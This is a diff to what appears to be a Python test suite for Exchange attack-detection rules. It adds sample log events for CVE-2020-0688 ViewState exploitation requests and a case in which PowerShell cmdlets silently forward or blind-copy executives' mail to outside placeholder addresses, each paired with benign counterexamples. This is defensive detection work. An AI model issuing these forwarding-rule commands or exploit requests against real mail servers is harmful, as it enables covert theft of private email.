@@ -76,7 +76,8 @@ def proxy(
 def ecp(
     cmd: str, url: str = "/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory"
 ) -> LogRecord:
-    event = f"S:TIME=13;S:CMD={cmd};S:REQID=;S:URL={url}"
+    # Later fields hold ECP's "<null>" marker, which must not pass for a script tag.
+    event = f"S:TIME=13;S:CMD={cmd};S:REQID=;S:URL={url};S:EX=;S:TNAME=<null>;S:TID="
     fields = {
         "TimeStamp": "2026-01-20T10:00:00.000Z",
         "ServerName": "EXCH01",
@@ -204,10 +205,31 @@ CASES = [
         cve="cve.2021-26858",
     ),
     Case(
+        "74c38568-4d31-4521-bab2-760d2f28847e",
+        Severity.HIGH,
+        [
+            iis("/ecp/default.aspx", "__VIEWSTATEGENERATOR=B97B4E27&__VIEWSTATE=%2FwEyhAYAAQAAAP",
+                status=500, user="contoso\\jdoe"),
+            iis("/ECP/Default.aspx", "__viewstate=%2FwEy&__VIEWSTATEGENERATOR=B97B4E27"),
+            proxy("/ecp/default.aspx", "?__VIEWSTATEGENERATOR=B97B4E27&__VIEWSTATE=%2FwEy",
+                  status=500),
+        ],
+        [
+            iis("/ecp/default.aspx", "__VIEWSTATEGENERATOR=B97B4E27"),
+            iis("/ecp/default.aspx", method="POST"),  # view state posted in the body
+            iis("/owa/auth/logon.aspx", "__VIEWSTATE=x"),
+        ],
+        cve="cve.2020-0688",
+    ),
+    Case(
         "c6325437-6c1d-4e3e-a91f-861b9b3f52e8",
         Severity.CRITICAL,
         [ecp(EVIL_OAB_VDIR)],
-        [ecp(LEGIT_OWA_VDIR), ecp("Get-InboxRule", "/ecp/RulesEditor/InboxRules.svc/GetList")],
+        [
+            ecp(LEGIT_OWA_VDIR),
+            ecp("Get-InboxRule", "/ecp/RulesEditor/InboxRules.svc/GetList"),
+            ecp("Set-OabVirtualDirectory.InternalUrl=<null>.Identity='EXCH01\\OAB'"),
+        ],
         cve="cve.2021-27065",
     ),
     Case(
@@ -522,8 +544,38 @@ CASES = [
         ],
     ),
     Case(
-        "b0d5304f-dabd-4240-8a5f-d4044a46f9ce",
+        "6f9887ab-3530-4947-b4c0-41d586183c00",
         Severity.MEDIUM,
+        [
+            cmdlet(
+                "Set-Mailbox",
+                '-Identity "ceo@contoso.com" -ForwardingSmtpAddress "smtp:drop@mail.example" '
+                '-DeliverToMailboxAndForward "True"',
+            ),
+            cmdlet(
+                "New-TransportRule",
+                '-Name "Journal" -SentTo "cfo@contoso.com" -BlindCopyTo "x@example.org"',
+            ),
+            cmdlet(
+                "New-InboxRule",
+                '-Mailbox "jdoe" -Name "." -ForwardTo "x@example.org" -MarkAsRead "True"',
+            ),
+            cmdlet("Set-InboxRule", '-Identity "jdoe\\r" -RedirectTo "x@example.org"'),
+        ],
+        [
+            cmdlet("Set-Mailbox", '-Identity "sofia@contoso.com" -ProhibitSendQuota "9.5GB"'),
+            cmdlet("Set-Mailbox", '-Identity "leaver@contoso.com" -ForwardingSmtpAddress $null'),
+            cmdlet(
+                "Add-MailboxPermission",
+                '-Identity "shared.finance@contoso.com" -User "mlewis" -AccessRights "FullAccess"',
+            ),
+            cmdlet("New-TransportRule", '-Name "Disclaimer" -ApplyHtmlDisclaimerText "<p>x</p>"'),
+            cmdlet("Get-InboxRule", '-Mailbox "jdoe"'),
+        ],
+    ),
+    Case(
+        "b0d5304f-dabd-4240-8a5f-d4044a46f9ce",
+        Severity.LOW,
         [
             cmdlet(
                 "Remove-MailboxExportRequest", '-Identity "admin\\MailboxExport" -Confirm "False"'
